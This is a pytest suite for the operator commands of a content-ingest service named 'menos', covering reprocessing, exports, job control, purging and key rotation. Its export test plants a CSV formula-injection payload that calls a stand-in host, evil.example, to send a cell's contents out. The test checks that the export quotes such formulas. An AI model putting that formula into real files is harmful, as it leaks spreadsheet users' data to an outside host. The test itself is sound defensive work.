"""The operator's command line, each command run as a subprocess against a real database."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import socket
import subprocess
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from tests.support import fake_llm, processes
from tests.support.processes import Menos, sql, wait_for


def submit(menos: Menos, key: str, text: str, **extra: Any) -> dict[str, Any]:
    with menos.client(key) as client:
        answer = client.post("/api/v1/content", json={"text": text, **extra})
        assert answer.status_code == 202, answer.text
        body: dict[str, Any] = answer.json()
        return body


def completed(menos: Menos, job_id: str) -> None:
    wait_for(
        lambda: (
            sql(
                menos.database_url,
                "SELECT 1 FROM menos.pipeline_job WHERE job_id = $1 AND status = 'completed'",
                job_id,
            )
            != []
        ),
        what="completion",
    )


def test_every_command_explains_itself() -> None:
    """Each bin/ command answers --help with its usage and what it does, and exits 0."""
    import subprocess

    from tests.support.processes import BIN

    for name, says in (
        ("api", "Serve the HTTP API"),
        ("worker", "Claim and run jobs"),
        ("dispatcher", "Deliver callback events"),
        ("reprocess", "Re-run one item"),
        ("classify", "Bulk re-run"),
        ("export-summaries", "Export completed results"),
        ("menos", "self-hosted content ingest"),
    ):
        done = subprocess.run(
            [str(BIN / name), "--help"], capture_output=True, text=True, timeout=60
        )
        assert done.returncode == 0, (name, done.stderr)
        assert "usage:" in done.stdout
        assert says in " ".join(done.stdout.split()), (name, done.stdout)


def test_reprocess_wait_exit_codes(menos: Menos, llm: fake_llm.FakeLLM) -> None:
    """bin/reprocess --wait follows the run and exits 0 completed, 1 failed, 2 cancelled."""
    menos.api()
    key = menos.key("alice")["api_key"]
    first = submit(menos, key, "# One\n\nA note to run again.")
    worker = menos.worker()
    completed(menos, first["job_id"])
    again = menos.command("reprocess", first["content_id"], "--force", "--wait")
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout.splitlines()[0])["status"] == "submitted"
    same = menos.command("reprocess", first["content_id"])
    assert json.loads(same.stdout)["status"] == "already_completed"
    worker.terminate()
    worker.wait()
    menos.worker(MENOS_ANALYZER="openai", MENOS_LLM_BASE_URL=llm.url, MENOS_LLM_MODEL="error500")
    failed = menos.command("reprocess", first["content_id"], "--force", "--wait")
    assert failed.returncode == 1
    failure = f"menos: job {json.loads(failed.stdout.splitlines()[0])['job_id']} failed in analyze:"
    assert f"{failure} LLM_CALL_ERROR" in failed.stderr, failed.stderr
    # stderr is no terminal: progress comes as log lines, and nothing but lines
    assert "\r" not in failed.stderr
    progress = [json.loads(line) for line in failed.stderr.splitlines() if "job_progress" in line]
    assert progress[-1]["stages_done"] == 2, progress  # fetch and prepare done; analyze failed
    assert progress[-1]["status"] == "failed"
    unknown = menos.command("reprocess", "00000000-0000-0000-0000-000000000000")
    assert unknown.returncode == 1 and "no content" in unknown.stderr


def test_reprocess_wait_reports_cancellation(menos: Menos, llm: fake_llm.FakeLLM) -> None:
    """A job cancelled while bin/reprocess --wait follows it makes the command exit 2."""
    import subprocess

    from tests.support.processes import BIN

    menos.api()
    key = menos.key("alice")["api_key"]
    first = submit(menos, key, "cancel while waiting")
    menos.command("jobs", "cancel", first["job_id"])
    menos.worker(MENOS_ANALYZER="openai", MENOS_LLM_BASE_URL=llm.url, MENOS_LLM_MODEL="slow-8")
    with subprocess.Popen(
        [str(BIN / "reprocess"), first["content_id"], "--wait"],
        env=menos.env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as follower:
        job_id = wait_for(
            lambda: sql(
                menos.database_url,
                "SELECT job_id FROM menos.pipeline_job WHERE current_stage = 'analyze' "
                "AND status = 'processing'",
            ),
            what="the rerun to be analyzing",
        )[0]["job_id"]
        cancel = menos.command("jobs", "cancel", str(job_id))
        assert json.loads(cancel.stdout)["outcome"] == "cancel_requested", cancel.stdout
        out, err = follower.communicate(timeout=60)
    assert follower.returncode == 2, (out, err)


def test_classify_enqueues_failed_and_stale_once(menos: Menos) -> None:
    """classify re-runs failed and (with --stale) items completed by an older version, never
    a newer or unreadable one, and a rerun adds nothing."""
    menos.api()
    key = menos.key("alice")["api_key"]
    items = [submit(menos, key, f"# Note {i}\n\ntext {i}") for i in range(5)]
    menos.worker()
    for item in items:
        completed(menos, item["job_id"])
    sql(
        menos.database_url,
        "UPDATE menos.content SET pipeline_version = '0.0.1' WHERE content_id = $1",
        items[0]["content_id"],
    )
    sql(
        menos.database_url,
        "UPDATE menos.content SET processing_status = 'failed' WHERE content_id = $1",
        items[1]["content_id"],
    )
    # newer than the running 0.1.0 (0.09.9 only as numbers: as text it sorts first), unreadable
    for item, version in ((items[2], "10.0.0"), (items[3], "next"), (items[4], "0.09.9")):
        sql(
            menos.database_url,
            "UPDATE menos.content SET pipeline_version = $2 WHERE content_id = $1",
            item["content_id"],
            version,
        )
    dry = menos.command("classify", "--stale", "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert set(dry.stdout.split()) == {items[0]["content_id"], items[1]["content_id"]}
    assert sql(menos.database_url, "SELECT count(*) AS n FROM menos.pipeline_job")[0]["n"] == 5
    run = menos.command("classify", "--stale")
    assert json.loads(run.stdout.strip().splitlines()[-1])["submitted"] == 2
    rerun = menos.command("classify", "--stale")
    assert json.loads(rerun.stdout.strip().splitlines()[-1])["submitted"] == 0
    active = sql(
        menos.database_url,
        "SELECT content_id, count(*) AS n FROM menos.pipeline_job "
        "WHERE status IN ('pending', 'processing') GROUP BY content_id",
    )
    assert all(row["n"] == 1 for row in active)
    audits = sql(
        menos.database_url,
        "SELECT owner, detail->>'outcome' AS outcome, detail->>'via' AS via,"
        " detail->'force' AS force"
        " FROM menos.audit_event WHERE event = 'audit.reprocess_trigger'",
    )
    assert [a["outcome"] for a in audits] == ["submitted", "submitted"]  # the rerun found none
    # a stale item needs no force: one made current after it was listed is skipped
    assert {(a["owner"], a["via"], a["force"]) for a in audits} == {
        ("alice", "bin/classify", False)
    }


def test_export_formats(menos: Menos, tmp_path: Path) -> None:
    """Completed results export as jsonl, csv, and markdown files whose YAML parses back."""
    menos.api()
    key = menos.key("alice")["api_key"]
    items = [
        submit(menos, key, text, title=title)
        for text, title in (
            ("# A\n\nFirst note about databases.", 'Quotes "and": colons / slashes'),
            ("# B\n\nSecond note about queues.", "Café — ünïcode"),
        )
    ]
    menos.worker()
    for item in items:
        completed(menos, item["job_id"])
    jsonl = menos.command("export-summaries", "--format", "jsonl")
    records = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert {r["content_id"] for r in records} == {i["content_id"] for i in items}
    assert all(r["result"]["summary"] for r in records)
    table = menos.command("export-summaries", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(table.stdout)))
    assert {r["title"] for r in rows} == {'Quotes "and": colons / slashes', "Café — ünïcode"}
    # A spreadsheet would run submitted text that starts like a formula: it is quoted.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    planted = submit(menos, key, "-1+1 is zero.", title=formula, tags=["@SUM(1+1)", "ok"])
    completed(menos, planted["job_id"])
    table = menos.command("export-summaries", "--format", "csv")
    [row] = [
        r
        for r in csv.DictReader(io.StringIO(table.stdout))
        if r["content_id"] == planted["content_id"]
    ]
    assert (row["title"], row["tags"]) == ("'" + formula, "'@SUM(1+1);ok")
    assert not row["summary"].startswith(("=", "+", "-", "@"))
    out = tmp_path / "md"
    md = menos.command("export-summaries", "--format", "markdown", "--out", str(out))
    assert md.returncode == 0, md.stderr
    files = sorted(out.glob("*.md"))
    assert len(files) == 3 and all(f.name.isascii() and " " not in f.name for f in files)
    for path in files:
        text = path.read_text(encoding="utf-8")
        front = yaml.safe_load(text.split("---\n")[1])
        assert front["content_id"] in {i["content_id"] for i in [*items, planted]}
        assert front["title"] in {'Quotes "and": colons / slashes', "Café — ünïcode", formula}
    one = menos.command("export-summaries", "--content-id", items[0]["content_id"])
    assert len(one.stdout.splitlines()) == 1


def test_jobs_list_show_cancel(menos: Menos) -> None:
    """bin/menos jobs lists, shows and cancels jobs."""
    menos.api()
    key = menos.key("alice")["api_key"]
    item = submit(menos, key, "inspect me")
    listing = menos.command("jobs", "list", "--status", "pending")
    assert item["job_id"] in listing.stdout
    shown = json.loads(menos.command("jobs", "show", item["job_id"]).stdout)
    assert shown["status"] == "pending" and shown["content_id"] == item["content_id"]
    read = sql(
        menos.database_url,
        "SELECT owner, subject::text AS subject, detail->>'via' AS via FROM menos.audit_event"
        " WHERE event = 'audit.full_tier_access'",
    )
    assert read == [{"owner": "alice", "subject": item["job_id"], "via": "bin/menos"}]
    cancel = menos.command("jobs", "cancel", item["job_id"])
    assert json.loads(cancel.stdout)["outcome"] == "cancelled"
    refused = menos.command("jobs", "cancel", item["job_id"])
    assert refused.returncode == 1
    missing = menos.command("jobs", "show", "00000000-0000-0000-0000-000000000000")
    assert missing.returncode == 1


def test_purge_removes_only_expired_and_is_idempotent(menos: Menos) -> None:
    """purge deletes old finished jobs and audit events, keeps recent, active and undelivered."""
    menos.api()
    key = menos.key("alice")["api_key"]
    old = submit(menos, key, "old one")
    old_pending_callback = submit(
        menos, key, "old with callback", callback_url="http://127.0.0.1:9/hook"
    )
    recent = submit(menos, key, "recent one")
    worker = menos.worker()
    for item in (old, old_pending_callback, recent):
        completed(menos, item["job_id"])
    worker.terminate()  # a graceful stop: nothing is left running
    assert worker.wait(timeout=30) == 0
    active = submit(menos, key, "still waiting")  # stays pending: no worker takes it
    sql(
        menos.database_url,
        "UPDATE menos.pipeline_job SET finished_at = now() - interval "
        "'200 days', full_payload = '{}' WHERE job_id = ANY($1::uuid[])",
        [old["job_id"], old_pending_callback["job_id"]],
    )
    sql(
        menos.database_url,
        "UPDATE menos.callback_outbox SET status = 'pending', "
        "next_attempt_at = now() + interval '1 day'",
    )
    sql(
        menos.database_url,
        "INSERT INTO menos.audit_event (event, at) VALUES "
        "('audit.old', now() - interval '400 days'), ('audit.new', now())",
    )
    preview = json.loads(menos.command("purge", "--dry-run").stdout)
    assert preview == {
        "dry_run": True,
        "jobs": 1,
        "full_payloads": 2,
        "audit_events": 1,
        "metric_processes": 0,  # the worker is running
    }
    purged = json.loads(menos.command("purge").stdout)
    assert (purged["jobs"], purged["audit_events"]) == (1, 1)
    remaining = {
        r["job_id"] for r in sql(menos.database_url, "SELECT job_id::text FROM menos.pipeline_job")
    }
    assert remaining == {old_pending_callback["job_id"], recent["job_id"], active["job_id"]}
    content = sql(
        menos.database_url,
        "SELECT latest_job_id, result FROM menos.content WHERE content_id = $1",
        old["content_id"],
    )[0]
    assert content["latest_job_id"] is None and content["result"] is not None
    again = json.loads(menos.command("purge").stdout)
    assert again == {
        "dry_run": False,
        "jobs": 0,
        "full_payloads": 0,
        "audit_events": 0,
        "metric_processes": 0,
    }


def test_a_retention_longer_than_the_calendar_keeps_everything(menos: Menos) -> None:
    """MENOS_RETENTION_*_DAYS is any positive integer: one reaching before year 1 purges
    nothing instead of failing every purge."""
    huge = {"MENOS_RETENTION_COMPACT_DAYS": "99999999999999999999"}
    huge["MENOS_RETENTION_FULL_DAYS"] = "999999"
    for args in (("purge", "--dry-run"), ("purge",)):
        done = menos.command(*args, **huge)
        assert done.returncode == 0, done.stderr
        counts = json.loads(done.stdout)
        assert (counts["jobs"], counts["full_payloads"], counts["audit_events"]) == (0, 0, 0)


def test_command_failures_are_one_line_never_a_traceback(menos: Menos, tmp_path: Path) -> None:
    """Bad limits, bad bytes, unusable files, a refused login, a closed stdout and a closed
    pipe each give a one-line message (or none, for the pipe) and a non-zero exit, never a
    traceback."""
    menos.api()
    alice = menos.key("alice")
    notes = [submit(menos, alice["api_key"], f"# note {n}") for n in range(3)]
    menos.worker()
    for note in notes:
        completed(menos, note["job_id"])

    def fails(done: subprocess.CompletedProcess[Any], code: int, says: str) -> None:
        assert done.returncode == code, (done.returncode, done.stderr)
        assert "Traceback" not in done.stderr and says in done.stderr, done.stderr

    for limit in ("0", "-5", "99999999999999999999"):
        fails(menos.command("jobs", "list", "--limit", limit), 2, "--limit")
    unknown = "00000000-0000-0000-0000-000000000000"
    fails(menos.command("jobs", "show", unknown), 1, f"menos: no job {unknown}")
    jobs_before = sql(menos.database_url, "SELECT count(*) AS n FROM menos.pipeline_job")
    for url, code in (
        ("ftp://example.com/hook", 2),  # malformed: a usage error
        ("https://example.com:99999/", 2),
        ("not a url", 2),
        ("http://127.0.0.1/hook", 1),  # well-formed, refused by the SSRF rule
    ):
        # checked as the API checks it, before anything is enqueued
        refused = menos.command(
            "reprocess",
            notes[0]["content_id"],
            "--force",
            "--callback-url",
            url,
            MENOS_CALLBACK_ALLOW_PRIVATE="false",
        )
        fails(refused, code, "--callback-url: ")
    assert sql(menos.database_url, "SELECT count(*) AS n FROM menos.pipeline_job") == jobs_before
    not_utf8 = os.fsdecode(b"\xff")
    fails(menos.command("jobs", "list", "--owner", not_utf8), 2, "owner: not valid UTF-8")
    fails(
        menos.command("export-summaries", "--out", str(tmp_path / "missing" / "x.jsonl")),
        1,
        "No such file or directory",
    )
    wrong_password = re.sub(r"://([^@/]*@)?", "://nobody:wrong@", menos.database_url, count=1)
    fails(menos.command("jobs", "list", MENOS_DATABASE_URL=wrong_password), 1, "menos: ")
    elsewhere = tmp_path / "bad-dotenv"
    elsewhere.mkdir()
    (elsewhere / ".env").write_bytes(b"MENOS_LOG_FORMAT=\xff\n")
    dotenv = subprocess.run(
        [str(processes.BIN / "menos"), "jobs", "list"],
        env=menos.env,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=elsewhere,
        stdin=subprocess.DEVNULL,
    )
    fails(dotenv, 2, "invalid configuration: ")

    def shell(line: str) -> subprocess.CompletedProcess[Any]:
        return subprocess.run(
            f"{processes.BIN}/{line}",
            shell=True,
            env=menos.env,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=menos.workdir,
        )

    keys_before = len(sql(menos.database_url, "SELECT 1 FROM menos.api_key"))
    for command in (
        "menos jobs list",
        "menos keys list",
        "menos purge --dry-run",
        "menos keys create --owner mallory",  # its secret would be made and lost
        "export-summaries --format markdown",  # prints the names of the files it writes
    ):
        # started without a stdout at all: refused before it does anything
        fails(shell(f"{command} >&-"), 1, "menos: standard output is closed")
    assert len(sql(menos.database_url, "SELECT 1 FROM menos.api_key")) == keys_before
    assert not (menos.workdir / "export").exists()
    secrets_before = sql(menos.database_url, "SELECT * FROM menos.owner ORDER BY name")
    for command in ("menos keys create --owner mallory", "menos keys rotate-secret --owner alice"):
        # a secret that cannot be written (a full disk) is not kept either
        fails(shell(f"{command} > /dev/full"), 1, "could not write the result")
    assert len(sql(menos.database_url, "SELECT 1 FROM menos.api_key")) == keys_before
    assert sql(menos.database_url, "SELECT * FROM menos.owner ORDER BY name") == secrets_before
    exported = tmp_path / "x.jsonl"  # a command whose result goes to --out runs as usual
    done = shell(f"export-summaries --out {exported} >&-")
    assert done.returncode == 0, done.stderr
    assert exported.exists()
    written = tmp_path / "notes"
    done = shell(f"export-summaries --format markdown --out {written} >&-")
    assert done.returncode == 0, done.stderr
    assert len(list(written.glob("*.md"))) == 3
    # started without a stderr: runs, with its messages and logs discarded
    listed = shell("menos jobs list --limit 3 2>&-")
    assert listed.returncode == 0 and len(listed.stdout.splitlines()) >= 3, listed
    assert shell("menos jobs show 00000000-0000-0000-0000-000000000000 2>&-").returncode == 1
    # The reader is gone before the first write ('menos: Broken pipe' was printed when the
    # failed write had emptied the buffer, so that flushing it again succeeded).
    for command in ("menos jobs list --limit 3", "export-summaries"):
        piped = shell(f"{command} | (exec 0<&-; sleep 2)")
        assert piped.stderr == "", piped.stderr


@pytest.mark.parametrize("command", ["dev", "api"])
def test_dev_and_api_refuse_a_port_another_server_holds(menos: Menos, command: str) -> None:
    """`menos dev` or `bin/api` on a port already in use stops at once with exit 1, saying so,
    before it starts anything or announces a running API that is not its own."""
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        done = menos.command(command, MENOS_PORT=str(port))
    assert done.returncode == 1, done.stderr
    assert f"cannot listen on 127.0.0.1 port {port} (Address already in use)" in done.stderr
    assert "set MENOS_PORT to a free port" in done.stderr
    assert "is running" not in done.stdout
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as taken:
        port = taken.getsockname()[1]
        done = menos.command(command, MENOS_PORT=str(port), MENOS_HOST="::1")
    assert done.returncode == 1, done.stderr
    assert f"cannot listen on ::1 port {port}" in done.stderr, done.stderr


def test_dev_runs_on_an_ipv6_address(menos: Menos, tmp_path: Path) -> None:
    """With MENOS_HOST=::1, `menos dev` checks its readiness at [::1], announces bracketed URLs
    that answer, and stops cleanly on Ctrl-C."""
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as probe:
        port = probe.getsockname()[1]
    out = tmp_path / "dev.out"
    with out.open("wb") as sink:
        dev = subprocess.Popen(
            [str(processes.BIN / "menos"), "dev"],
            env={**menos.env, "MENOS_HOST": "::1", "MENOS_PORT": str(port)},
            stdin=subprocess.DEVNULL,
            stdout=sink,
            stderr=subprocess.STDOUT,
            cwd=menos.workdir,
        )
    try:
        processes.wait_for(
            lambda: "is running" in out.read_text() or dev.poll() is not None,
            timeout=90,
            what="menos dev to announce itself",
        )
        text = out.read_text()
        assert f"API:      http://[::1]:{port}  (routes under /api/v1)" in text, text
        assert httpx.get(f"http://[::1]:{port}/health", timeout=5).status_code == 200
    finally:
        dev.send_signal(signal.SIGINT)
        code = dev.wait(timeout=60)
    assert code == 0, out.read_text()
    assert "Traceback" not in out.read_text()


@pytest.mark.parametrize("quick", [False, True], ids=["after-the-stop-began", "double-press"])
def test_dev_on_a_second_ctrl_c_stops_without_waiting_the_grace(
    menos: Menos, llm: fake_llm.FakeLLM, tmp_path: Path, quick: bool
) -> None:
    """The first Ctrl-C to `menos dev` stops its children gracefully; a second one passes on,
    so the worker gives its running job back at once instead of after the grace: also when
    pressed a tenth of a second after the first, before dev has passed that one on."""
    port = processes.free_port()
    out = tmp_path / "dev.out"
    env = {
        **menos.env,
        "MENOS_PORT": str(port),
        "MENOS_ANALYZER": "openai",
        "MENOS_LLM_BASE_URL": llm.url,
        "MENOS_LLM_MODEL": "slow-600",
        "MENOS_WORKER_SHUTDOWN_GRACE_S": "600",
    }
    with out.open("wb") as sink:
        dev = subprocess.Popen(
            [str(processes.BIN / "menos"), "dev"],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=sink,
            stderr=subprocess.STDOUT,
            cwd=menos.workdir,
        )
    try:
        wait_for(
            lambda: "is running" in out.read_text() or dev.poll() is not None,
            timeout=90,
            what="menos dev to announce itself",
        )
        found = re.search(r"API key:  (\S+)", out.read_text())
        assert found, out.read_text()
        headers = {"authorization": f"Bearer {found.group(1)}"}
        base = f"http://127.0.0.1:{port}/api/v1"
        job_id = httpx.post(
            f"{base}/content", json={"text": "in a hurry"}, headers=headers, timeout=30
        ).json()["job_id"]
        wait_for(
            lambda: (
                httpx.get(f"{base}/jobs/{job_id}", headers=headers).json()["status"] == "processing"
            ),
            what="processing",
        )
        dev.send_signal(signal.SIGINT)
        if quick:
            time.sleep(0.1)  # a double press: the second comes before dev looks at the first
        else:
            wait_for(lambda: "worker_stopping" in out.read_text(), what="the graceful stop")
        dev.send_signal(signal.SIGINT)
        assert dev.wait(timeout=60) == 0, out.read_text()  # far below the ten minutes' grace
    finally:
        if dev.poll() is None:
            dev.kill()
            dev.wait()
    assert "stop_hurried" in out.read_text()
    row = sql(menos.database_url, "SELECT status, attempts FROM menos.pipeline_job")[0]
    assert row == {"status": "pending", "attempts": 0}


def test_rotating_twice_within_a_day_warns_that_the_first_secret_stops_signing(
    menos: Menos,
) -> None:
    """The first rotation says nothing; a second within 24 h still rotates, and warns that the
    original secret (which receivers may still verify with) no longer signs."""
    menos.key("alice")
    first = menos.command("keys", "rotate-secret", "--owner", "alice")
    assert first.returncode == 0 and first.stdout.startswith("whsec_"), first.stderr
    assert "warning" not in first.stderr
    second = menos.command("keys", "rotate-secret", "--owner", "alice")
    assert second.returncode == 0 and second.stdout.startswith("whsec_"), second.stderr
    assert "the secret used before the last rotation no longer signs" in second.stderr
    assert second.stdout != first.stdout
